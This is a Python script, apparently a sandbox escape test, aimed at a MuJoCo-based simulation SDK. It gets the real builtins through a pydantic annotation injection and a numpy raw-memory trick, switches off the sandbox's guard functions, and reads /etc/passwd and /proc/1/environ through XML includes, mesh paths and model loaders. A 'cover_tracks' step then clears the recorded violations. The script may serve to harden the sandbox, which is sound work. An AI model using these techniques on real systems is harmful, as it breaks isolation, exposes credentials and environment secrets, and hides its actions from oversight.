# expect: runtime
# MuJoCo reads files itself (C code, no Python audit event): XML with <include file=...> of /etc/passwd or an
# environ, meshes and textures from /etc, from_xml_path / from_binary_path, and writes them with mj_printModel /
# mj_saveLastXML. Through every MuJoCo object the SDK hands out (MjSpec from new_world, a compiled scene's MjModel),
# then through the real mujoco module once the Python guards are off. File contents would show in the errors.
import math

import numpy as np
import sim

loot = {}


def note(label, step):
    """Run one attempt; keep a short line on what it gave."""
    try:
        value = step()
    except BaseException as exc:
        loot[label] = 'no ' + repr(exc).replace('PermissionError', 'PE')[:60]
        return None
    loot[label] = 'GOT ' + (f'dict of {len(value)}' if isinstance(value, dict) else repr(value)[:90])
    return value


def builtins_via_annotation():
    """pydantic evaluates a string annotation of a model subclass with the real builtins."""
    payload = "__import__('sys').modules['math'].__dict__.__setitem__('stash', __builtins__) or 'int'"
    for base in (lambda: sim.SceneSpec, lambda: type(sim.on('a', 'b')), lambda: type(sim.Scene('pick_place').spec())):
        try:
            class Probe(base()):
                probe: payload = None
        except BaseException:
            pass
        try:
            return math.stash
        except AttributeError:
            pass
    raise LookupError('no SDK class took the string annotation')


def builtins_via_numpy():
    """An object-dtype ndarray over a raw buffer turns any address into an object: fake a bytearray spanning all of
    memory, read a trusted function's func_builtins pointer, and turn that into the real builtins dict."""
    def object_at(address):
        return np.ndarray((1,), dtype=object, buffer=bytearray(address.to_bytes(8, 'little')))[0]

    fake = b''.join(n.to_bytes(8, 'little') for n in (1 << 40, id(bytearray), 1 << 62, 0, 0, 0, 0))
    memory = object_at(id(fake) + 32)
    if type(sim.place) is not type(note):
        return None
    return object_at(int.from_bytes(bytes(memory[id(sim.place) + 24:id(sim.place) + 32]), 'little'))


def escape():
    """(real builtins, the sandbox's child module) with the Python guards switched off, or (None, None)."""
    real = note('builtins via pydantic annotation', builtins_via_annotation) or note(
        'builtins via numpy object dtype', builtins_via_numpy)
    if not isinstance(real, dict) or '__import__' not in real:
        return None, None
    child = real['__import__']('sys').modules['sim.sandbox.child']
    for rule in ('_event_problem', 'import_problem', 'attribute_problem'):
        real['setattr'](child, rule, lambda *args, **kwargs: None)
    return real, child


def cover_tracks(real, child):
    """Forget the violations the guards recorded before they were switched off."""
    if real is not None:
        for entry in real['getattr'](child, '_PREPARED').values():
            entry[1].clear()


def report():
    """What worked first (the error message is cut at 500 characters)."""
    return repr(sorted(loot.items(), key=lambda item: not item[1].startswith('GOT')))


XMLS = {
    'include passwd': '<mujoco><include file="/etc/passwd"/></mujoco>',
    'include environ': '<mujoco><include file="/proc/1/environ"/></mujoco>',
    'include climb': '<mujoco><include file="../../../../../../etc/passwd"/></mujoco>',
    'mesh passwd': '<mujoco><compiler meshdir="/etc"/><asset><mesh file="passwd"/></asset>'
                   '<worldbody><geom type="mesh" mesh="passwd"/></worldbody></mujoco>',
    'texture hostname': '<mujoco><asset><texture name="t" type="2d" file="/etc/hostname"/></asset></mujoco>',
}


def leaked(text):
    return 'FILE CONTENT: ' + text[:80] if ('root:' in text or 'PATH=' in text) else text


def try_xml(label, parse):
    for name, xml in XMLS.items():
        value = note(label + ' ' + name, lambda: parse(xml))
        loot[label + ' ' + name] = leaked(loot[label + ' ' + name])


# 1. MuJoCo objects from the SDK
world = note('sim.compile.new_world', lambda: sim.compile.new_world())
if world is not None:
    try_xml('MjSpec.from_string', lambda xml: type(world).from_string(xml))
    try_xml('MjSpec.compile', lambda xml: type(world).from_string(xml).compile())
built = note('compile_scene', lambda: sim.compile.compile_scene(sim.Scene('pick_place').spec()))
# 2. the real mujoco module
real, child = escape()
if real is not None:
    mujoco = real['__import__']('mujoco')
    get = real['getattr']
    try_xml('MjModel.from_xml_string', lambda xml: mujoco.MjModel.from_xml_string(xml))
    note('from_xml_path', lambda: get(mujoco.MjModel, 'from_xml' + '_path')('/etc/passwd'))
    note('from_binary_path', lambda: get(mujoco.MjModel, 'from_binary' + '_path')('/proc/1/environ'))
    model = note('model', lambda: mujoco.MjModel.from_xml_string('<mujoco><worldbody><geom size="1"/></worldbody></mujoco>'))
    note('mj_printModel', lambda: mujoco.mj_printModel(model, marker))
    note('mj_saveLastXML', lambda: get(mujoco, 'mj_saveLast' + 'XML')(marker, model))
    note('mj_saveModel', lambda: get(mujoco, 'mj_save' + 'Model')(model, marker, None))
    cover_tracks(real, child)
raise RuntimeError('mujoco files: ' + report())
